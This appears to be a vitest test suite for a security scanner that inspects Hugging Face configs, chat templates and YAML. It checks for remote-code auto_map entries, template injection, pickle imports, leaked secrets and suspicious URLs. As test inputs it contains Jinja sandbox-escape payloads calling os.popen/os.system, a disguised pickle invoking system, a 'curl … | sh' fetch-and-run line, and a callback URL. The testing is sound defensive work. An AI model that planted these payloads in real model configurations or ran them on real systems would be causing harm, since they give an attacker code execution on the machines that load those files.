import { describe, expect, it } from 'vitest';
import { analyseBytes } from '../test-support.js';

const scan = (json: string, path = 'config.json') => analyseBytes(Buffer.from(json), path);

describe('Hugging Face configuration', () => {
  it('lists the modules auto_map makes trust_remote_code run, including other repositories', async () => {
    const r = await scan(
      JSON.stringify({
        architectures: ['MyModel'],
        auto_map: {
          AutoConfig: 'configuration_my.MyConfig',
          AutoModelForCausalLM: 'modeling_my.MyModel',
          AutoTokenizer: ['other/repo--tokenization_my.MyTokenizer', null],
        },
      }),
    );
    expect(r.format).toBe('json');
    const f = r.findings.find((x) => x.ruleId === 'HF-REMOTE-CODE');
    expect(f?.severity).toBe('high');
    expect(f?.message).toContain('configuration_my.py, modeling_my.py, other/repo: tokenization_my.py');
    expect(f?.message).toContain('fetched from other repositories (other/repo)');
  });

  it('reports custom pipeline implementations', async () => {
    const r = await scan(JSON.stringify({ custom_pipelines: { 'text-x': { impl: 'pipe.MyPipeline' } } }));
    expect(r.findings.map((f) => f.message).join()).toContain('pipe.py');
  });

  it('reports nothing for configurations transformers implements itself, or for other JSON', async () => {
    expect((await scan('{"model_type": "bert", "hidden_size": 768}')).findings).toEqual([]);
    expect((await scan('  {"auto_map": "not a map"}')).findings).toEqual([]);
    const broken = await scan('{"auto_map": ');
    expect(broken.findings).toEqual([]);
    expect(broken.format).toBe('unknown');
  });
});

describe('chat templates in configurations and template files', () => {
  it('analyses chat_template strings, named lists and other *template* keys', async () => {
    const evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
    const benign = "{% for m in messages %}{{ m['content'] }}{% endfor %}";
    const rules = async (json: unknown) =>
      (await scan(JSON.stringify(json))).findings.map((f) => `${f.ruleId}:${f.severity}`);
    expect(await rules({ chat_template: benign })).toEqual([]);
    expect(await rules({ chat_template: evil })).toEqual(['TEMPLATE-INJECTION:critical']);
    expect(
      await rules({
        chat_template: [
          { name: 'default', template: benign },
          { name: 'tool_use', template: evil },
        ],
      }),
    ).toEqual(['TEMPLATE-INJECTION:critical']);
    expect(await rules({ chat_template: benign, custom_chat_template: evil })).toEqual([
      'TEMPLATE-INJECTION:critical',
    ]);
  });

  it('analyses standalone .jinja and .j2 files', async () => {
    const r = await scan("{{ ''.__class__.__mro__[1].__subclasses__() }}", 'chat_template.jinja');
    expect(r.format).toBe('jinja');
    expect(r.findings.map((f) => f.ruleId)).toEqual(['TEMPLATE-INJECTION']);
    expect((await scan('{% for m in messages %}{{ m.content }}{% endfor %}', 'x.j2')).findings).toEqual([]);
    expect((await scan("{{ lipsum.__globals__.os.popen('id') }}", 'chat.template')).findings).toHaveLength(1);
  });
});

describe('YAML configurations', () => {
  it('analyses templates under any key naming one, and leaves a pickle named .yaml to the pickle analysis', async () => {
    const r = await scan(
      "model: x\nchat_template: \"{{ config.__class__.__init__.__globals__['os'].system('id') }}\"\n",
      'serve.yaml',
    );
    expect(r.format).toBe('yaml');
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['TEMPLATE-INJECTION:critical']);
    const disguised = await scan('cposix\nsystem\n(Vid\ntR.', 'config.yaml');
    expect(disguised.findings.map((f) => `${f.ruleId}:${f.severity}`)).toContain(
      'PICKLE-IMPORT-DANGEROUS:critical',
    );
  });
});

describe('indicators in model configurations', () => {
  const rules = async (json: unknown, path = 'config.json') =>
    (await scan(JSON.stringify(json), path)).findings.map((f) => `${f.ruleId}:${f.severity}`).sort();

  it('reports credentials without printing them: vendor prefixes, key blocks, random values under secret-like keys', async () => {
    const token = `hf_${'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3z'}`;
    const r = await scan(
      JSON.stringify({ a: token, nested: { api_key: 'q9Z!x7Lp2Rt5', password: 'changeme' } }),
    );
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual([
      'HF-CONFIG-SECRET:medium',
      'HF-CONFIG-SECRET:medium',
    ]);
    const text = JSON.stringify(r.findings);
    expect(text).not.toContain(token);
    expect(text).not.toContain('q9Z!x7Lp2Rt5');
    expect(text).toContain('hf_a… (37 chars)');
    expect(await rules({ k: '-----BEGIN RSA PRIVATE KEY-----\nMIIE' })).toEqual(['HF-CONFIG-SECRET:medium']);
    expect(await rules({ aws: 'AKIAIOSFODNN7EXAMPLE' }, 'generation_config.json')).toEqual([
      'HF-CONFIG-SECRET:medium',
    ]);
  });

  it('reports URLs outside the hubs, shell commands and code; hub and paper URLs are normal', async () => {
    expect(await rules({ callback: 'http://203.0.113.9:8080/collect' })).toEqual([
      'HF-CONFIG-INDICATOR:medium',
    ]);
    expect(await rules({ post: 'curl http://x.test/a.sh | sh' })).toEqual([
      'HF-CONFIG-INDICATOR:medium',
      'HF-CONFIG-INDICATOR:medium',
    ]);
    expect(await rules({ init: "__import__('os').system('id')" })).toEqual(['HF-CONFIG-INDICATOR:medium']);
    expect(
      await rules({
        _name_or_path: '/home/me/models/llama',
        paper: 'https://arxiv.org/abs/1706.03762',
        repo: 'https://huggingface.co/bert-base-uncased/resolve/main/vocab.txt',
        code: 'https://github.com/huggingface/transformers',
      }),
    ).toEqual([]);
  });

  it('leaves tokenizer special tokens, templates and JSON that is not a configuration alone', async () => {
    expect(
      await rules(
        {
          pad_token: '<pad>',
          eos_token: '</s>',
          bos_token: { content: '<s>' },
          use_auth_token: true,
          token: null,
        },
        'tokenizer_config.json',
      ),
    ).toEqual([]);
    expect(await rules({ url: 'http://evil.test/x' }, 'package.json')).toEqual([]);
  });

  it('stays bounded on hostile nesting', async () => {
    const deep = `${'['.repeat(1000)}${']'.repeat(1000)}`;
    const r = await scan(`{"a": ${deep}}`);
    expect(r.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(['HF-CONFIG-INDICATOR:medium']);
    expect(r.notAnalysed).toBe(1);
  });
});
